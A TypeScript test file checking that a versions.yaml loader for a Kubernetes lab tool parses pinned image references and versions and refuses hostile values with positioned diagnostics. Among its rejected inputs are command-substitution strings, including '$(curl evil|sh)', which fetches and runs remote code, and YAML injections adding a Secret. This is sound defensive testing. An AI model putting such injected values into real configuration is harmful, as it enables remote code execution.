// versions.yaml is read strictly: a version is a version, an image reference is an image reference,
// each problem placed at versions.yaml:line:column with the field and a fix; hostile values (line
// breaks, U+2028, flow syntax, document markers, shell expansions) are refused, never passed on.
import { test } from "node:test";
import assert from "node:assert/strict";
import { loadVersions, parseImageRef } from "./versions.js";
import { loadLabText } from "../lab/load.js";
import { DEFAULT_CHARTS, DEFAULT_IMAGES } from "../versions/defaults.js";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { EXAMPLES } from "../testing/paths.js";

const LAB = readFileSync(join(EXAMPLES, "starter", "lab.yaml"), "utf8").replace(/^  kubernetesVersion: .*\n/m, "");

test("image references: the distribution grammar, a release tag, an optional sha256 digest", () => {
  const digest = "sha256:" + "a".repeat(64);
  assert.deepEqual(parseImageRef("vaultwarden/server:1.35.0"), { image: { repository: "vaultwarden/server", tag: "1.35.0" } });
  assert.deepEqual(parseImageRef(`ghcr.io/a/b:v2.3.1@${digest}`), { image: { repository: "ghcr.io/a/b", tag: "v2.3.1", digest } });
  assert.deepEqual(parseImageRef("registry.lan:5000/mirror/postgres:17.7"), { image: { repository: "registry.lan:5000/mirror/postgres", tag: "17.7" } });
  for (const bad of [
    "vaultwarden/server", // no tag
    "vaultwarden/server:latest", // moving
    "vaultwarden/server:1", // moving
    "Vaultwarden/server:1.0.0", // upper case path
    "vaultwarden/server:1.0.0\nkind: Secret",
    "vaultwarden/server:1.0.0\u2028x",
    "[vaultwarden/server:1.0.0]",
    "---",
    "$(id)/x:1.0.0",
    "x:1.0.0@sha256:abc",
    "x:1.0.0 #c",
    "ghcr.io/a b:1.0.0",
  ]) assert.ok("problem" in parseImageRef(bad), `${JSON.stringify(bad)} must be refused`);
});

test("a valid versions.yaml: overrides read back exactly", () => {
  const r = loadVersions(`talos: "1.12.7"\nkubernetes: "1.35.5"\ncharts:\n  cilium: "1.20.3"\nimages:\n  "0x0": "orhunp/rustypaste:0.18.2"\n  vaultwarden: "vaultwarden/server:1.35.0@sha256:${"b".repeat(64)}"\n`);
  assert.deepEqual(r.diagnostics, []);
  assert.equal(r.overrides!.talos, "1.12.7");
  assert.equal(r.overrides!.charts.cilium, "1.20.3");
  assert.deepEqual(r.overrides!.images["0x0"], { repository: "orhunp/rustypaste", tag: "0.18.2" });
  assert.equal(r.overrides!.images.vaultwarden!.digest, "sha256:" + "b".repeat(64));
  assert.deepEqual(loadVersions("").overrides, { charts: {}, images: {} });
});

test("every wrong value is an error at versions.yaml:line:column, with the field and a fix", () => {
  const cases: [string, string, number, RegExp][] = [
    ['talos: "1.12"\n', "talos", 1, /must be a version such as 1\.12\.6/],
    ["talos: 1.12\n", "talos", 1, /\(in quotes\)/],
    ['talos: "1.9.0"\n', "talos", 1, /not supported/],
    ['k3s: "1.35.4"\n', "k3s", 1, /k3s1/],
    ['flux: "2.8.0"\n', "flux", 1, /vendors \(2\.9\.5\)/],
    ['charts:\n  cillium: "1.20.3"\n', "charts.cillium", 2, /unknown chart 'cillium'.*did you mean cilium/],
    ['charts:\n  cilium: "1.20"\n', "charts.cilium", 2, /chart version/],
    ['charts:\n  cilium: "1.20.3\\nkind: Secret"\n', "charts.cilium", 2, /chart version/],
    ['images:\n  vaultwarden: "vaultwarden/server:latest"\n', "images.vaultwarden", 2, /moves with every release/],
    ['images:\n  vaultwarden: "vaultwarden/server:1.0\\u2028x"\n', "images.vaultwarden", 2, /not an image reference/],
    ['images:\n  vaultwarden: "$(curl evil|sh):1.0.0"\n', "images.vaultwarden", 2, /not an image reference/],
    ["images:\n  vaultwarden: [vaultwarden/server:1.0.0]\n", "images.vaultwarden", 2, /in quotes/],
    ['images:\n  vaultwardn: "vaultwarden/server:1.0.0"\n', "images.vaultwardn", 2, /did you mean vaultwarden/],
    ['chart:\n  cilium: "1.0.0"\n', "chart", 1, /unknown field 'chart'.*did you mean charts/],
    ["kind: Lab\n", "kind", 1, /must be Versions/],
  ];
  for (const [text, path, line, message] of cases) {
    const r = loadVersions(text, "versions.yaml");
    assert.equal(r.overrides, undefined, text);
    const d = r.diagnostics.find((x) => x.path === path);
    assert.ok(d, `${JSON.stringify(text)}: no diagnostic at ${path}: ${JSON.stringify(r.diagnostics)}`);
    assert.equal(d.file, "versions.yaml");
    assert.equal(d.line, line, text);
    assert.match(d.message, message);
    assert.ok(d.hint || d.message.length > 20);
  }
  // a second document, a syntax error: positioned too
  assert.ok(loadVersions('talos: "1.12.6"\n---\ntalos: x\n').diagnostics.length > 0);
  assert.equal(loadVersions("talos: [\n").diagnostics[0]!.file, "versions.yaml");
});

test("a version set in both lab.yaml and versions.yaml is refused; versions.yaml reaches the Lab", () => {
  const both = loadLabText(LAB.replace("  distribution: talos", "  kubernetesVersion: 1.35.4\n  distribution: talos"), "lab.yaml", { versions: { text: 'kubernetes: "1.35.5"\n', file: "versions.yaml" } });
  assert.equal(both.lab, undefined);
  const d = both.diagnostics.find((x) => x.file === "versions.yaml")!;
  assert.match(d.message, /set twice/);
  assert.match(d.hint!, /delete cluster\.kubernetesVersion/);

  const r = loadLabText(LAB, "lab.yaml", { versions: { text: 'kubernetes: "1.35.5"\ntalos: "1.12.7"\ncharts: { cilium: "1.20.3" }\nimages: { vaultwarden: "mirror.lan/vw/server:1.35.0" }\n', file: "versions.yaml" } });
  assert.deepEqual(r.diagnostics.filter((d) => d.severity === "error" || d.file === "versions.yaml"), []);
  assert.equal(r.lab!.kubernetesVersion, "1.35.5");
  assert.equal(r.lab!.talosVersion, "1.12.7");
  assert.equal(r.lab!.versions.charts.cilium.version, "1.20.3");
  assert.equal(r.lab!.versions.charts.cilium.source, DEFAULT_CHARTS.cilium.source);
  assert.equal(r.lab!.versions.images.vaultwarden.repository, "mirror.lan/vw/server");
  assert.equal(r.lab!.versions.images.postgres, DEFAULT_IMAGES.postgres);

  const bad = loadLabText(LAB, "lab.yaml", { versions: { text: 'images: { vaultwarden: "x:latest" }\n', file: "versions.yaml" } });
  assert.equal(bad.lab, undefined);
  assert.equal(bad.diagnostics[0]!.file, "versions.yaml");
});
